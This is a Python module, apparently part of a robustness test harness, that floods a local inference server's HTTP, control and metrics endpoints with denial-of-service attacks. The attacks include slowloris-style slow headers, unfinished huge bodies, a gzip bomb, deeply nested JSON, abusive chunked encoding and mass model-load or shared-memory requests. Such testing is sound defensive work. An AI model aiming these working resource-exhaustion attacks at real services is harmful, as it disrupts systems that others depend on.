"""Attacks over HTTP, which hostile_client.py makes: at the address of clients, of operators, and of metrics and probes."""

import base64
import contextlib
import gzip
import json
import socket

MIB = 1 << 20
INFER = '/v2/models/identity/infer'


def connect(port):
    return socket.create_connection(('127.0.0.1', port), timeout=10)


def request(path, body=b'', method='POST', **headers):
    fields = {'Content-Length': len(body), **{name.replace('_', '-'): value for name, value in headers.items()}}
    lines = ''.join(f'{name}: {value}\r\n' for name, value in fields.items() if value is not None)
    return f'{method} {path} HTTP/1.1\r\nHost: here\r\n{lines}\r\n'.encode() + body


def order(model, **parameters):
    return request(f'/v2/repository/models/{model}/load', json.dumps({'parameters': parameters}).encode())


def again_and_again(port, stop, *requests):
    """Sends them and reads what is answered, whatever that is."""
    with connect(port) as connection:
        while not stop.is_set():
            for each in requests:
                connection.sendall(each)
            if not connection.recv(MIB):
                return


def unread(port, stop, message):
    """Sends it again and again, and reads nothing."""
    with connect(port) as connection:
        connection.settimeout(0.2)
        while not stop.is_set():
            with contextlib.suppress(TimeoutError):
                connection.sendall(message)


def on_many(port, stop, begin, go_on, count=200):
    """So many connections, which say `begin`, and then `go_on` now and then."""
    with contextlib.ExitStack() as stack:
        connections = []
        for _ in range(count):
            connections.append(stack.enter_context(connect(port)))
            with contextlib.suppress(OSError):
                connections[-1].sendall(begin)
        while not stop.wait(0.1):
            for connection in connections:
                with contextlib.suppress(OSError):
                    connection.sendall(go_on)


def http_slow_heads(port, stop):
    on_many(port, stop, b'GET /v2 HTTP/1.1\r\n', b'A: b\r\n')


def http_unfinished_bodies(port, stop):
    """Of 60 MiB each, of which one comes."""
    on_many(port, stop, request(INFER, Content_Length=60 * MIB) + bytes(MIB), b' ', 50)


def http_small_chunks(port, stop):
    """A byte each, and much beside it."""
    chunk = b'1;' + b'x' * 1000 + b'\r\n \r\n'
    with connect(port) as connection:
        connection.sendall(request(INFER, Content_Length=None, Transfer_Encoding='chunked'))
        while not stop.is_set():
            connection.sendall(chunk * 100)


def http_bombs(port, stop):
    """Half a MiB of gzip that is 128 MiB of blanks."""
    bomb = gzip.compress(b' ' * (128 * MIB), 1)
    again_and_again(port, stop, request(INFER, bomb, Content_Encoding='gzip'))


def http_deep_json(port, stop):
    again_and_again(port, stop, request(INFER, b'{"a": ' + b'[' * (8 * MIB)),
                    request(INFER, b'{"inputs": [' + b'{},' * (2 * MIB)))


def http_unread_answers(port, stop):
    unread(port, stop, request('/v2/models/stats', method='GET') * 1000)


def http_settings(port, stop):
    """As large as they may be, in all the forms in which JSON takes memory."""
    deep = b'{"a": ' + b'[' * 65000
    many = b'{' + b','.join(b'"%d":""' % i for i in range(6000)) + b'}'
    again_and_again(port, stop, *(request(path, body) for path in ('/v2/logging', '/v2/trace/setting')
                                  for body in (deep, many)))


def http_regions(port, stop):
    requests = []
    for i in range(300):
        path = f'/v2/systemsharedmemory/region/r{i}'
        requests += [request(f'{path}/register', b'{"key": "/swizzle-hostile-none", "byte_size": 1}'),
                     request(f'{path}/status', method='GET'), request(f'{path}/unregister')]
    again_and_again(port, stop, *requests, request('/v2/cudasharedmemory/region/r/register', json.dumps(
        {'raw_handle': {'b64': 'A' * 60000}, 'device_id': 0, 'byte_size': 1 << 40}).encode()))


def http_orders(port, stop):
    """Which clients may not give."""
    unread(port, stop, order('identity', config='{' * MIB))


def http_operators_orders(port, stop):
    """Models that there are not, and orders that are none."""
    again_and_again(port, stop, order('nobody'), order('x' * 8000), order('identity', config='[' * 500000),
                    request('/v2/repository/models/identity/load', b'{"parameters": ' + b'[' * MIB),
                    request('/v2/repository/models/nobody/unload', b'{"parameters": {"unload_dependents": true}}'))


def http_brought_models(port, stop):
    """Files of 40 MiB that are no model, again and again, and of many names."""
    large = {'file:1/model.onnx': base64.b64encode(bytes(40 * MIB)).decode()}
    small = {f'file:1/{i}': 'AAAA' for i in range(1000)}
    again_and_again(port, stop, order('brought', config='{}', **large), order('brought', config='{}', **small))


def http_unfinished_orders(port, stop):
    on_many(port, stop, request('/v2/repository/models/x/load', Content_Length=50 * MIB) + b'{"parameters": {"file:x": "' +
            b'A' * MIB, b'A', 60)


def metrics_slow_heads(port, stop):
    """More connections than there may be."""
    on_many(port, stop, b'GET /metrics HTTP/1.1\r\n', b'A: b\r\n', 400)


def metrics_unread(port, stop):
    """Answers that nobody reads, on many connections."""
    on_many(port, stop, request('/metrics', method='GET'), b'', 400)


def metrics_asked_for(port, stop):
    while not stop.is_set():
        with contextlib.suppress(OSError), connect(port) as connection:
            connection.sendall(request('/metrics', method='GET') * 100)
            connection.recv(MIB)


# By the address that they are made at, as port files name it.
PLACES = {
    'http': (http_slow_heads, http_unfinished_bodies, http_small_chunks, http_bombs, http_deep_json,
             http_unread_answers, http_settings, http_regions, http_orders),
    'http_control': (http_operators_orders, http_brought_models, http_unfinished_orders),
    'metrics': (metrics_slow_heads, metrics_unread, metrics_asked_for)}
ATTACKS = [attack for attacks in PLACES.values() for attack in attacks]
